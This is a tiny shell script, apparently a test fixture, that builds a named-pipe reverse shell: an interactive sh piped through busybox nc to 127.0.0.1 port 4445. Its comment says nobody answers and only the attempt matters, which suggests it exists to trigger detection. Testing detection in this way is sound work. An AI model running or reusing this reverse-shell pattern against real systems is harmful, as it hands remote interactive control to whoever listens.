#!/bin/sh
# needs: busybox
# A shell and a relay with a named pipe between them. Nobody answers: the attempt is what counts.
mkfifo /tmp/pipe
cat /tmp/pipe | sh -i 2>&1 | busybox nc 127.0.0.1 4445 > /tmp/pipe
rm -f /tmp/pipe
